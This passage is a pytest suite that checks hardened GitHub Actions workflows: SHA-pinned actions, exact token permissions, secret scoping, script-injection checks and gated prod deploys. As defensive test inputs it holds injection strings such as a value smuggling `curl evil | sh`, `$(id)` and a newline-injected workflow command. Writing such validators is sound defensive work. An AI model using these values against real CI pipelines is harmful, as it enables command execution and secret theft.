        guarded = "github.event.pull_request.head.repo.full_name == github.repository" in str(job.get("if", ""))
        if guarded:
            continue
        text = yaml.safe_dump(job)
        assert "secrets." not in text and "vars." not in text, job_id
        assert (job.get("permissions") or {}).get("id-token") != "write", job_id
    preview = pr["jobs"]["preview"]
    assert "github.event.pull_request.head.repo.full_name == github.repository" in preview["if"]
    assert preview["permissions"]["pull-requests"] == "write"  # comments the preview


# --- least privilege: actions pinned to commits -------------------------------------------

_USES_LINE = re.compile(r"""^\s*(?:-\s+)?uses:\s*["']?(?P<ref>[^\s"'#]+)["']?\s*(?:#\s*(?P<comment>.*?)\s*)?$""")
_PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}")
_RELEASE = re.compile(r"v\d+\.\d+\.\d+")


@dataclass(frozen=True)
class Uses:
    """One `uses:` line of a workflow file, with its comment (YAML parsers drop comments)."""

    line: int
    ref: str
    comment: str


def uses_lines(text: str) -> list[Uses]:
    return [Uses(number, m.group("ref"), m.group("comment") or "")
            for number, line in enumerate(text.splitlines(), 1) if (m := _USES_LINE.match(line))]


def pinning_problems(text: str, where: str) -> list[str]:
    """How a workflow's remote actions and workflows are not pinned.

    A tag or branch can be moved to other code by whoever controls (or compromises) the action's
    repository; a full commit SHA cannot. The release it is, `# vX.Y.Z`, goes beside it for readers
    and for Dependabot, which updates both.
    """
    problems = []
    for uses in uses_lines(text):
        if uses.ref.startswith("./"):
            continue
        if not _PINNED.fullmatch(uses.ref):
            problems.append(f"{where}:{uses.line}: {uses.ref} is not pinned to a full commit SHA")
        elif not _RELEASE.fullmatch(uses.comment):
            problems.append(f"{where}:{uses.line}: {uses.ref} needs its release beside it: `# vX.Y.Z`")
    return problems


def yaml_uses(doc: dict[str, Any]) -> list[str]:
    """Every `uses:` of a parsed workflow: called workflows and steps."""
    return [job["uses"] for job in doc["jobs"].values() if "uses" in job] + [s["uses"] for _, s in steps(doc) if "uses" in s]


SHA = "3d3c42e5aac5ba805825da76410c181273ba90b1"


@pytest.mark.parametrize("line, pinned", [
    (f"      - uses: actions/checkout@{SHA} # v7.0.1", True),
    (f"      - uses: 'actions/checkout@{SHA}'  # v7.0.1", True),
    ("    uses: ./.github/workflows/pulumi-up.yml", True),
    ("      - uses: actions/checkout@v7", False),
    ("      - uses: actions/checkout@v7.0.1 # v7.0.1", False),
    (f"      - uses: actions/checkout@{SHA[:12]} # v7.0.1", False),
    (f"      - uses: actions/checkout@{SHA}", False),
    (f"      - uses: actions/checkout@{SHA} # v7", False),
    (f"      - uses: actions/checkout@{SHA} # pinned", False),
    ("    uses: acme/shared/.github/workflows/deploy.yml@main", False),
    ("      - uses: docker://alpine:3", False),
])
def test_the_pinning_check_accepts_only_full_shas_with_their_release(line, pinned):
    assert (pinning_problems(line, "x.yml") == []) is pinned


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_remote_actions_are_pinned_to_a_full_commit_sha_with_its_release_in_a_comment(path):
    text = path.read_text()
    assert sorted(u.ref for u in uses_lines(text)) == sorted(yaml_uses(load(path))), "a `uses:` the line check cannot see"
    assert pinning_problems(text, path.name) == []


def test_each_action_is_pinned_to_one_commit_and_release_everywhere():
    pins: dict[str, set[tuple[str, str]]] = {}
    for path in WORKFLOW_FILES:
        for uses in uses_lines(path.read_text()):
            name, _, sha = uses.ref.partition("@")
            if not uses.ref.startswith("./"):
                pins.setdefault(name, set()).add((sha, uses.comment))
    assert pins and {name: pin for name, pin in pins.items() if len(pin) > 1} == {}


# --- least privilege: each job is granted exactly what its steps need ------------------------

_LEVELS = {"none": 0, "read": 1, "write": 2}

#: What each action needs of the job's GITHUB_TOKEN (its documentation); pulumi/actions needs
#: `pull-requests: write` only to comment (comment-on-pr). A new action fails the tests until added.
ACTION_NEEDS: dict[str, dict[str, str]] = {
    "actions/checkout": {"contents": "read"},
    "actions/setup-python": {},
    "actions/setup-go": {},
    "aws-actions/configure-aws-credentials": {"id-token": "write"},  # the OIDC token it exchanges for a role
    "pulumi/actions": {},
    "peter-evans/create-pull-request": {"contents": "write", "pull-requests": "write"},
}

#: `gh api` endpoints the scripts call (shell variables read as `x`), and what each needs.
GH_API_NEEDS = {r"repos/\S+?/deployments\b": ("deployments", "read")}


def grants(permissions: Any) -> dict[str, str]:
    """A `permissions:` block as {scope: read|write} (`none` dropped); `read-all`/`write-all` are refused."""
    assert isinstance(permissions, dict), f"`permissions: {permissions}`: name each scope"
    return {scope: level for scope, level in permissions.items() if level != "none"}


def merged(*needs: dict[str, str]) -> dict[str, str]:
    out: dict[str, str] = {}
    for need in needs:
        for scope, level in need.items():
            if _LEVELS[level] > _LEVELS[out.get(scope, "none")]:
                out[scope] = level
    return out


def step_needs(step: dict[str, Any]) -> dict[str, str]:
    if "uses" in step:
        name = action_name(step["uses"])
        assert name in ACTION_NEEDS, f"{name}: add what it needs of the token to ACTION_NEEDS"
        comments = name == "pulumi/actions" and step.get("with", {}).get("comment-on-pr") is True
        return merged(ACTION_NEEDS[name], {"pull-requests": "write"} if comments else {})
    needs: dict[str, str] = {}
    for argv in shell_commands(step.get("run", "")):
        if Path(argv[0]).name != "gh":
            continue
        endpoint = argv[2] if argv[1:2] == ["api"] and len(argv) > 2 else ""
        known = [need for pattern, need in GH_API_NEEDS.items() if re.match(pattern, endpoint)]
        assert known, f"`{shlex.join(argv)}`: add what it needs to GH_API_NEEDS"
        needs = merged(needs, dict(known))
    return needs


def job_needs(job: dict[str, Any], load_called) -> dict[str, str]:
    """What a job's steps need; for a job that calls a workflow, what the called jobs are granted."""
    if "uses" in job:
        return merged(*(grants(called.get("permissions", {})) for called in load_called(job["uses"])["jobs"].values()))
    return merged(*(step_needs(step) for step in job.get("steps", [])))


def permission_problems(doc: dict[str, Any], where: str, load_called=called_workflow) -> list[str]:
    """How a workflow grants its token more (or less) than its jobs need.

    The workflow level grants nothing that writes (`{}` here), so a job added without `permissions:`
    gets nothing by accident; each job grants exactly what its steps need. A called workflow's job may
    not ask for more than its calling job grants: GitHub refuses to start such a run, whatever the `if:`.
    """
    problems = []
    top = doc.get("permissions")
    if top is None:
        problems.append(f"{where}: set `permissions:` at the workflow level: {{}} or read-only")
    elif not isinstance(top, dict) or "write" in top.values():
        problems.append(f"{where}: the workflow level grants `{top}`: grant writes per job")
    for job_id, job in doc["jobs"].items():
        if not isinstance(job.get("permissions"), dict):
            problems.append(f"{where}:{job_id}: set the job's `permissions:` (scope: level)")
            continue
        granted, needed = grants(job["permissions"]), job_needs(job, load_called)
        if granted != needed:
            problems.append(f"{where}:{job_id}: grants {granted}, its steps need {needed}")
        for called_id, called in (load_called(job["uses"])["jobs"].items() if "uses" in job else []):
            asked = grants(called.get("permissions", {}))
            over = {s: lvl for s, lvl in asked.items() if _LEVELS[lvl] > _LEVELS[granted.get(s, "none")]}
            if over:
                problems.append(f"{where}:{job_id}: the called job {called_id} asks for {over}, more than this job grants")
    return problems


def _job(permissions: Any = None, job_steps: list | None = None) -> dict[str, Any]:
    job = {"runs-on": "ubuntu-latest", "steps": job_steps or [{"uses": f"actions/checkout@{SHA}"}]}
    return job if permissions is None else {**job, "permissions": permissions}


_CALLED = {"jobs": {"pulumi": _job({"contents": "read", "id-token": "write", "pull-requests": "write"}, [
    {"uses": f"actions/checkout@{SHA}"}, {"uses": f"aws-actions/configure-aws-credentials@{SHA}"},
    {"uses": f"pulumi/actions@{SHA}", "with": {"comment-on-pr": True}}])}}


@pytest.mark.parametrize("top, job, problem", [
    ({}, _job({"contents": "read"}), None),
    ({"contents": "read"}, _job({"contents": "read"}), None),
    (None, _job({"contents": "read"}), "set `permissions:` at the workflow level"),
    ("write-all", _job({"contents": "read"}), "the workflow level grants `write-all`"),
    ({"contents": "write"}, _job({"contents": "read"}), "the workflow level grants"),
    ({}, _job(), "set the job's `permissions:`"),
    ({}, _job({"contents": "read", "pull-requests": "write"}), "grants {'contents': 'read', 'pull-requests': 'write'}, its steps need {'contents': 'read'}"),
    ({}, _job({"contents": "read"}, [{"uses": f"actions/checkout@{SHA}"}, {"uses": f"aws-actions/configure-aws-credentials@{SHA}"}]), "need {'contents': 'read', 'id-token': 'write'}"),
    ({}, {"uses": "./called.yml", "permissions": {"contents": "read", "id-token": "write", "pull-requests": "write"}}, None),
    ({}, {"uses": "./called.yml", "permissions": {"contents": "read", "id-token": "write"}}, "the called job pulumi asks for {'pull-requests': 'write'}"),
], ids=["none-at-top", "read-at-top", "no-top", "write-all", "write-at-top", "no-job-permissions", "more-than-needed",
        "less-than-needed", "caller-grants-what-called-asks", "called-asks-for-more"])
def test_the_permission_check_finds_each_excess(top, job, problem):
    doc = {"jobs": {"j": job}, **({} if top is None else {"permissions": top})}
    problems = permission_problems(doc, "x.yml", load_called=lambda uses: _CALLED)
    if problem is None:
        assert problems == []
    else:
        assert any(problem in p for p in problems), problems


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_every_workflow_and_job_is_granted_exactly_what_it_needs(path):
    assert permission_problems(load(path), path.name) == []


# --- least privilege: secrets by name, tokens that push only in a main-only environment ---------


def test_no_job_hands_all_its_secrets_to_a_called_workflow():
    """`secrets: inherit` gives the called workflow every repository and environment secret."""
    inheriting = [f"{path.name}:{job_id}" for path in WORKFLOW_FILES for job_id, job in load(path)["jobs"].items()
                  if job.get("secrets") == "inherit"]
    assert inheriting == []


def test_secrets_and_tokens_reach_steps_not_whole_jobs():
    """A secret in a workflow- or job-level `env:` reaches every step, third-party actions included."""
    for path in WORKFLOW_FILES:
        doc = load(path)
        for where, env in [(path.name, doc.get("env", {}))] + [(f"{path.name}:{j}", job.get("env", {})) for j, job in doc["jobs"].items()]:
            text = yaml.safe_dump(env)
            assert "secrets." not in text and "github.token" not in text, f"{where}: pass secrets to the step that uses them"


def readme_bullets() -> list[str]:
    """The bullet items of the README's Operating it section (`- ...` and its indented lines), each one line."""
    return [" ".join(item.split()) for item in re.findall(r"^- (.*(?:\n  .*)*)", operating_section(), re.M)]


def main_only_environments() -> set[str]:
    """The GitHub environments the README tells users to limit to the `main` branch."""
    return {name for item in readme_bullets() if "limited to the `main` branch" in item
            for name in re.findall(r"`([\w-]+)`", item.partition(":")[0]) if name != "main"}


def pushing_jobs() -> list[tuple[str, dict[str, Any]]]:
    """Jobs holding a token that can push: `contents: write`, or the PROMOTION_TOKEN secret."""
    return [(f"{path.name}:{job_id}", job) for path in WORKFLOW_FILES for job_id, job in load(path)["jobs"].items()
            if (job.get("permissions") or {}).get("contents") == "write" or "secrets.PROMOTION_TOKEN" in yaml.safe_dump(job)]


def test_the_readme_environment_list_is_read_as_written():
    assert {"staging", "production"} <= main_only_environments()
    assert not {"staging-preview", "production-preview"} & main_only_environments()


def test_tokens_that_can_push_exist_only_in_jobs_of_a_main_only_environment():
    """A workflow file edited on a branch and run from there cannot enter an environment limited to
    `main`: it gets neither the environment's secrets nor the OIDC subject of that environment."""
    jobs = pushing_jobs()
    assert [where for where, _ in jobs] == ["promote.yml:promote"]
    for where, job in jobs:
        environment = job.get("environment")
        assert isinstance(environment, str) and "${{" not in environment, f"{where}: run it in a fixed, protected environment"
        assert environment in main_only_environments(), f"{where}: the README must limit `{environment}` to `main`"
        token_row = next(line for line in operating_section().splitlines() if line.startswith("| `PROMOTION_TOKEN` |"))
        assert f"`{environment}`" in token_row, "PROMOTION_TOKEN is a secret of that environment only"


def test_checkouts_keep_no_credentials():
    """With the token left in .git/config, every later step (and any code it runs) could push with it."""
    checkouts = [(f"{path.name}:{job_id}", step) for path in WORKFLOW_FILES for job_id, step in steps(load(path))
                 if action_name(step.get("uses", "")) == "actions/checkout"]
    assert checkouts
    for where, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, f"{where}: persist-credentials: false"


def test_only_the_pull_request_step_is_given_a_token_that_can_push():
    for where, job in pushing_jobs():
        holders = [step for step in job["steps"] if re.search(r"secrets\.|github\.token", yaml.safe_dump(step))]
        assert [action_name(s.get("uses", "")) for s in holders] == ["peter-evans/create-pull-request"], where
        assert holders[0]["with"]["token"] == "${{ secrets.PROMOTION_TOKEN || github.token }}"


# --- least privilege: no expression pasted into a script ------------------------------------

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)


def script_expressions(doc: dict[str, Any]) -> list[tuple[str, str]]:
    """(where, expression) of every `${{ }}` in a script: a `run:`, or actions/github-script's `script:`.

    GitHub pastes an expression's value into the script's text before the shell reads it, so a branch
    name, pull request title or workflow input such as `x"; curl evil | sh; "` becomes code. Values reach
    scripts through `env:` and are quoted, "$VAR". No allow-list of safe contexts: a value that is
    trusted today (a matrix entry, a step output) is one edit away from carrying untrusted text.
    """
    found = []
    for job_id, job in doc.get("jobs", {}).items():
        for index, step in enumerate(job.get("steps", [])):
            scripts = [step.get("run")]
            if action_name(step.get("uses", "")) == "actions/github-script":
                scripts.append(step.get("with", {}).get("script"))
            for script in filter(None, scripts):
                found += [(f"{job_id}:{step.get('name', index)}", m.group(1).strip()) for m in _EXPRESSION.finditer(str(script))]
    return found


@pytest.mark.parametrize("script, expressions", [
    ('echo "${{ github.event.pull_request.title }}"', ["github.event.pull_request.title"]),
    ('modelctl promote ${{ inputs.model }} --to prod', ["inputs.model"]),
    ('set -e\ngit switch "${{github.head_ref}}"\necho "${{ steps.x.outputs.y }}"', ["github.head_ref", "steps.x.outputs.y"]),
    ('modelctl check "${{ matrix.stack }}"', ["matrix.stack"]),
    ('modelctl promote "$MODEL" --to prod # ${{ inputs.model }} in a comment is pasted too', ["inputs.model"]),
    ('modelctl promote "$MODEL" --from staging --to prod', []),
])
def test_the_script_check_finds_every_pasted_expression(script, expressions):
    doc = {"jobs": {"j": {"steps": [{"run": script, "env": {"MODEL": "${{ inputs.model }}"}}]}}}
    assert [e for _, e in script_expressions(doc)] == expressions


def test_the_script_check_reads_github_script_too():
    step = {"uses": f"actions/github-script@{SHA}", "with": {"script": "core.info('${{ github.event.issue.title }}')"}}
    assert script_expressions({"jobs": {"j": {"steps": [step]}}}) == [("j:0", "github.event.issue.title")]


@pytest.mark.parametrize("path", WORKFLOW_FILES, ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_script(path):
    assert script_expressions(load(path)) == []


def model_check_step() -> dict[str, Any]:
    return workflow("promote.yml")["jobs"]["promote"]["steps"][0]


def test_the_model_name_is_checked_against_the_stack_files_grammar_before_anything_else():
    from infra.config import MODEL_NAME

    step = model_check_step()
    assert step["env"] == {"MODEL": "${{ inputs.model }}", "MODEL_NAME": MODEL_NAME}
    assert "$MODEL_NAME" in step["run"] and "exit 1" in step["run"]


@pytest.mark.parametrize("name", [
    "days-to-sell", "a", "a" * 40, "m2", "a" * 41, "Days-to-sell", "-x", "x-", "1x", "x_y", "",
    'x"; curl evil | sh; "', "$(id)", "x\n::add-mask::y", "days-to-sell\n",
])
def test_the_model_name_check_accepts_exactly_model_names(name):
    from infra.config import MODEL_NAME

    step = model_check_step()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "MODEL": name, "MODEL_NAME": step["env"]["MODEL_NAME"]}
    run = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
                         env=env, capture_output=True, text=True, check=False)
    assert (run.returncode == 0) is (re.fullmatch(MODEL_NAME, name) is not None), run.stdout
    if run.returncode:
        assert "is not a model name" in run.stdout
        commands = [line for line in run.stdout.splitlines() if line.startswith("::")]
        assert len(commands) == 1, f"the name printed as a workflow command: {commands}"


# --- deploys: staging, then prod behind `production`, never two at once -------------------


def test_deploy_runs_on_push_to_main():
    on = triggers(workflow("deploy.yml"))
    assert on["push"]["branches"] == ["main"]


@pytest.mark.parametrize("name", ["deploy.yml", "promote.yml"])
def test_deploys_and_promotions_run_only_on_main_even_when_run_by_hand(name):
    """workflow_dispatch can pick any branch: without the guard it would deploy that branch's code."""
    doc = workflow(name)
    assert "workflow_dispatch" in triggers(doc)
    for job_id, job in doc["jobs"].items():
        assert "github.ref == 'refs/heads/main'" in str(job.get("if", "")), f"{name}:{job_id} has no main-only guard"


def test_prod_deploys_after_staging_behind_the_protected_production_environment():
    deploy = workflow("deploy.yml")
    jobs = stack_jobs(deploy, "up")
    staging_job_id = next(k for k, j in deploy["jobs"].items() if j is jobs["staging"]["job"])
    prod = jobs["prod"]
    assert prod["with"]["environment"] == "production"
    assert staging_job_id in prod["job"]["needs"]
    assert "needs.prod-changes.outputs.changed == 'true'" in prod["job"]["if"]
    assert jobs["staging"]["with"].get("environment") != "production"
    for uses in STACK_WORKFLOWS.values():
        assert called_workflow(uses)["jobs"]["pulumi"]["environment"] == "${{ inputs.environment }}", uses


def test_two_deploys_of_one_stack_never_overlap():
    groups = {}
    for stack, job in stack_jobs(workflow("deploy.yml"), "up").items():
        concurrency = job["job"]["concurrency"]
        group = concurrency["group"]
        assert "${{" not in group and stack in group, f"{stack}: one fixed group per stack, got {group!r}"
        assert concurrency["cancel-in-progress"] is False, f"{stack}: a running update must never be cancelled"
        groups[stack] = group
    assert len(set(groups.values())) == len(groups)


# --- prod runs only when what prod is built from changed ----------------------------------


def compare_step() -> dict[str, Any]:
    job = workflow("deploy.yml")["jobs"]["prod-changes"]
    return next(s for s in job["steps"] if s.get("id") == "compare")


def test_the_change_check_looks_at_the_environment_prod_deploys_to():
    assert compare_step()["env"]["ENVIRONMENT"] == stack_jobs(workflow("deploy.yml"), "up")["prod"]["with"]["environment"]


#: The `gh api ... --jq FILTER` filters of the compare step, as gh (which embeds its own jq) applies them
#: with raw output. The fake gh below knows exactly these: a new filter in the workflow fails the tests
#: until it is added here, and test_the_fake_gh_filters_like_jq checks them against jq where it exists.
GH_JQ_FILTERS = {
    '.[0] | select(.) | "\\(.id) \\(.sha)"': "first_id_and_sha",
    '.[0].state // "none"': "first_state_or_none",
}

FAKE_GH = r"""
# gh api URL --jq FILTER, answered from JSON files like the GitHub REST API would, filtered in Python
# as gh's built-in jq does: the tests need no jq binary.
import json, os, re, sys

def first_id_and_sha(items):
    return [] if not items or items[0] is None else [f"{items[0]['id']} {items[0]['sha']}"]

def first_state_or_none(items):
    state = items[0].get("state") if items and isinstance(items[0], dict) else None
    return [state if state not in (None, False) else "none"]

FILTERS = json.loads(os.environ["FAKE_GH_FILTERS"])
args = sys.argv[1:]
if len(args) != 4 or args[0] != "api" or args[2] != "--jq":
    sys.exit(f"unexpected: gh {' '.join(args)}")
url, jq = args[1], args[3]
if re.fullmatch(r"repos/acme/models/deployments/42/statuses\?.*", url):
    source = os.environ["FAKE_STATUSES"]
elif re.fullmatch(r"repos/acme/models/deployments\?environment=production&.*", url):
    source = os.environ["FAKE_DEPLOYMENTS"]
else:
    sys.exit(f"unexpected: gh api {url}")
if jq not in FILTERS:
    sys.exit(f"the fake gh does not know the filter {jq!r}: add it to GH_JQ_FILTERS")
with open(source) as f:
    for line in globals()[FILTERS[jq]](json.load(f)):
        print(line)
"""


def install_fake_gh(bin_dir: Path) -> dict[str, str]:
    """Put the fake `gh` (run by this Python) on a PATH; returns the environment it needs."""
    gh = bin_dir / "gh"
    gh.write_text(f"#!{sys.executable}\n{FAKE_GH}")
    gh.chmod(0o755)
    return {"FAKE_GH_FILTERS": json.dumps(GH_JQ_FILTERS)}


def git_env(home: Path) -> dict[str, str]:
    """A git environment independent of the user's configuration."""
    return {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(home),
        "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "ci", "GIT_AUTHOR_EMAIL": "ci@example.com",
        "GIT_COMMITTER_NAME": "ci", "GIT_COMMITTER_EMAIL": "ci@example.com",
    }


def git_runner(repo: Path, env: dict[str, str], init: bool = False):
    """`git(*args) -> stdout` in `repo`; `init` creates the repository."""
    def git(*args: str) -> str:
        return subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True).stdout.strip()

    if init:
        repo.mkdir(parents=True, exist_ok=True)
        git("init", "-q", "-b", "main")
    return git


def compare_step_filters() -> set[str]:
    """The --jq filters the compare step passes to `gh api`."""
    return {argv[argv.index("--jq") + 1] for argv in shell_commands(compare_step()["run"])
            if argv[0] == "gh" and "--jq" in argv}


def test_the_fake_gh_knows_exactly_the_filters_the_workflow_uses():
    assert compare_step_filters() == set(GH_JQ_FILTERS)


@pytest.mark.parametrize("items", [[], [{"id": 42, "sha": "abc", "state": "success"}], [{"id": 7, "sha": "d"}], [None]])
def test_the_fake_gh_filters_like_jq(tmp_path, items):
    """The fake's Python filters against real jq, where jq is installed (the fake itself needs none)."""
    jq = shutil.which("jq")
    if not jq:
        pytest.skip("no jq here to compare the fake gh's filters with")
    (tmp_path / "bin").mkdir()
    data = tmp_path / "items.json"
    data.write_text(json.dumps(items))
    env = {**os.environ, **install_fake_gh(tmp_path / "bin"), "FAKE_STATUSES": str(data)}
    gh_api = [str(tmp_path / "bin" / "gh"), "api", "repos/acme/models/deployments/42/statuses?per_page=1", "--jq"]
    for jq_filter in GH_JQ_FILTERS:
        expected = subprocess.run([jq, "-r", jq_filter, str(data)], capture_output=True, text=True, check=True).stdout
        fake = subprocess.run([*gh_api, jq_filter], env=env, capture_output=True, text=True, check=False)
        assert (fake.returncode, fake.stdout) == (0, expected), (jq_filter, fake.stderr)


REPO_FILES = [
    "stacks/Pulumi.prod.yaml", "stacks/Pulumi.staging.yaml", "infra/program.py", "infra/components/serving.py",
    "Pulumi.yaml", "requirements.txt", "pyproject.toml", "README.md", "docs/CONFIG.md", "modelctl/cli.py",
    "policies/prod.json", "tests/test_config.py", ".github/workflows/deploy.yml",
]


@dataclass(frozen=True)
class Deployment:
    """The newest `production` deployment GitHub reports: at the deployed commit or elsewhere."""

    state: str = "success"
    at_deployed_commit: bool = True


@dataclass(frozen=True)
class History:
    """A git repo: one commit deployed to production, and one child commit per file changing that file."""

    repo: Path
    env: dict[str, str]
    deployed: str
    change_of: dict[str, str]


@pytest.fixture(scope="module")
def history(tmp_path_factory) -> History:
    root = tmp_path_factory.mktemp("history")
    repo, bin_dir = root / "repo", root / "bin"
    bin_dir.mkdir()
    env = git_env(root)
    env.update(install_fake_gh(bin_dir))
    env["PATH"] = f"{bin_dir}{os.pathsep}{env['PATH']}"
    git = git_runner(repo, env, init=True)
    for name in REPO_FILES:
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(f"{name}\n")
    git("add", "-A")
    git("commit", "-q", "-m", "deployed to production")
    deployed = git("rev-parse", "HEAD")
    change_of = {}
    for name in REPO_FILES:
        with (repo / name).open("a") as f:
            f.write("changed\n")
        git("commit", "-q", "-am", f"change {name}")
        change_of[name] = git("rev-parse", "HEAD")
        git("reset", "-q", "--hard", deployed)
    return History(repo, env, deployed, change_of)


def decide_prod(history: History, tmp_path: Path, changed_file: str, last: Deployment | None, event: str = "push") -> str:
    """Run the deploy workflow's compare step at a commit where `changed_file` changed since the deploy."""
    deployments = [] if last is None else [{"id": 42, "sha": history.deployed if last.at_deployed_commit else "f" * 40}]
    (tmp_path / "deployments.json").write_text(json.dumps(deployments))
    (tmp_path / "statuses.json").write_text(json.dumps([] if last is None else [{"state": last.state}]))
    output, summary = tmp_path / "output", tmp_path / "summary"
    step = compare_step()
    env = dict(history.env)
    env.update({k: str(v) for k, v in step["env"].items() if "${{" not in str(v)})
    env.update({
        "GITHUB_REPOSITORY": "acme/models", "GITHUB_SHA": history.change_of[changed_file], "EVENT": event,
        "GH_TOKEN": "test", "GITHUB_OUTPUT": str(output), "GITHUB_STEP_SUMMARY": str(summary),
        "FAKE_DEPLOYMENTS": str(tmp_path / "deployments.json"), "FAKE_STATUSES": str(tmp_path / "statuses.json"),
    })
    run = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=history.repo, env=env, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    return output.read_text().strip()


@pytest.mark.parametrize("changed_file", [
    "stacks/Pulumi.prod.yaml", "infra/program.py", "infra/components/serving.py", "Pulumi.yaml",
    "requirements.txt", "pyproject.toml",
])
def test_prod_updates_when_what_it_is_built_from_changed(history, tmp_path, changed_file):
    assert decide_prod(history, tmp_path, changed_file, Deployment()) == "changed=true"


@pytest.mark.parametrize("changed_file", [
    "stacks/Pulumi.staging.yaml", "README.md", "docs/CONFIG.md", "modelctl/cli.py", "tests/test_config.py",
    "policies/prod.json", ".github/workflows/deploy.yml",
])
def test_prod_is_left_alone_when_only_other_files_changed(history, tmp_path, changed_file):
    assert decide_prod(history, tmp_path, changed_file, Deployment()) == "changed=false"


@pytest.mark.parametrize("last", [
    None,  # never deployed
    Deployment(state="failure"),  # the update failed: prod may be half-applied
    Deployment(state="waiting"),  # an earlier change still awaits approval
    Deployment(at_deployed_commit=False),  # deployed from a commit no longer in history
], ids=["never-deployed", "last-failed", "last-awaiting-approval", "unknown-commit"])
def test_prod_updates_when_its_last_deployment_is_not_a_known_success(history, tmp_path, last):
    assert decide_prod(history, tmp_path, "stacks/Pulumi.staging.yaml", last) == "changed=true"


def test_prod_updates_when_the_workflow_is_run_by_hand(history, tmp_path):
    assert decide_prod(history, tmp_path, "README.md", Deployment(), event="workflow_dispatch") == "changed=true"


# --- promotion --------------------------------------------------------------------------


def test_promotion_takes_a_model_and_proposes_only_the_prod_stack_file():
    promote = workflow("promote.yml")
    model = triggers(promote)["workflow_dispatch"]["inputs"]["model"]
    assert model["required"] is True
    job = promote["jobs"]["promote"]
    create_pr = next(s for s in job["steps"] if action_name(s.get("uses", "")) == "peter-evans/create-pull-request")
    assert create_pr["with"]["add-paths"] == "stacks/Pulumi.prod.yaml"
    promote_step = next(s for s in job["steps"] if "modelctl promote" in s.get("run", ""))
    assert promote_step["env"]["MODEL"] == "${{ inputs.model }}"
    assert job["permissions"]["pull-requests"] == "write"
    assert job["environment"] == "production-promote"


# --- the README's Operating it section is accurate to the workflows ---------------------------------------


def referenced(kind: str) -> set[str]:
    pattern = re.compile(rf"\b{kind}\.([A-Za-z_][A-Za-z0-9_]*)")
    return {m for path in WORKFLOW_FILES for m in pattern.findall(path.read_text())}


def documented_settings() -> set[str]:
    """Names in the first column of the tables of the README's Operating it section (| `NAME` | ...)."""
    return set(re.findall(r"^\|\s*`([A-Z][A-Z0-9_]+)`\s*\|", operating_section(), re.M))


def test_operating_section_is_in_the_readme():
    assert operating_section().startswith("## Operating it\n")


def test_every_variable_and_secret_the_workflows_use_is_documented_and_nothing_else():
    used = referenced("vars") | referenced("secrets")
    assert used, "the workflows use repository variables"
    documented = documented_settings()
    assert used - documented == set(), f"document in the README's Operating it section: {sorted(used - documented)}"
    assert documented - used == set(), f"the README's Operating it section documents unused settings: {sorted(documented - used)}"


def test_the_doc_names_every_workflow_and_only_existing_ones():
    named = {Path(m).name for m in re.findall(r"[\w./-]+\.yml\b", operating_section())}
    assert named == {p.name for p in WORKFLOW_FILES}


def test_the_doc_names_the_protected_environment_the_prod_deploy_uses():
    environment = stack_jobs(workflow("deploy.yml"), "up")["prod"]["with"]["environment"]
    assert f"`{environment}`" in operating_section()


def test_every_modelctl_command_in_the_doc_parses():
    lines = doc_invocations("modelctl")
    assert {argv[1] for argv in lines} >= {"release", "promote"}
    for argv in lines:
        parse_modelctl(argv)
